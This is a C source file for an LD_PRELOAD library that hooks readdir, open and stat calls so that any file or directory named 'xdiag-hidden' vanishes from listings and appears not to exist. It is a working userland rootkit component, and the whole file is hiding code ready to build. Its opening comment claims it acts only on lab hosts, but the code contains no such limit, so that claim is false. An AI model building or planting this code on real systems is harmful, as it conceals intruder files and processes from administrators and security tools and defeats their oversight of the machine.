/* A preloaded library that hides every directory entry and path part of one name: for the lab's throw-away hosts only; it does nothing outside of them. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <string.h>
#include <sys/stat.h>

#ifndef HIDDEN
#define HIDDEN "xdiag-hidden"
#endif

/* One part of the path is the word itself, with or without a dot before it. */
static int secret(const char *path) {
  for (const char *at = path; at && (at = strstr(at, HIDDEN)); at++) {
    const char *end = at + strlen(HIDDEN), *start = at > path && at[-1] == '.' ? at - 1 : at;
    if ((*end == 0 || *end == '/') && (start == path || start[-1] == '/')) return 1;
  }
  return 0;
}

struct dirent *readdir(DIR *dir) {
  static struct dirent *(*real)(DIR *);
  struct dirent *entry;
  if (!real) real = dlsym(RTLD_NEXT, "readdir");
  while ((entry = real(dir)) && secret(entry->d_name)) continue;
  return entry;
}

struct dirent64 *readdir64(DIR *dir) {
  static struct dirent64 *(*real)(DIR *);
  struct dirent64 *entry;
  if (!real) real = dlsym(RTLD_NEXT, "readdir64");
  while ((entry = real(dir)) && secret(entry->d_name)) continue;
  return entry;
}

#define HIDE_OPEN(name)                                                        \
  int name(const char *path, int flags, ...) {                                 \
    static int (*real)(const char *, int, ...);                                \
    va_list rest;                                                              \
    va_start(rest, flags);                                                     \
    mode_t mode = (flags & (O_CREAT | O_TMPFILE)) ? va_arg(rest, mode_t) : 0;  \
    va_end(rest);                                                              \
    if (secret(path)) return errno = ENOENT, -1;                               \
    if (!real) real = dlsym(RTLD_NEXT, #name);                                 \
    return real(path, flags, mode);                                            \
  }
HIDE_OPEN(open)
HIDE_OPEN(open64)

#define HIDE_STAT(name, type)                                                  \
  int name(const char *path, struct type *out) {                               \
    static int (*real)(const char *, struct type *);                           \
    if (secret(path)) return errno = ENOENT, -1;                               \
    if (!real) real = dlsym(RTLD_NEXT, #name);                                 \
    return real(path, out);                                                    \
  }
HIDE_STAT(stat, stat)
HIDE_STAT(lstat, stat)
HIDE_STAT(stat64, stat64)
HIDE_STAT(lstat64, stat64)
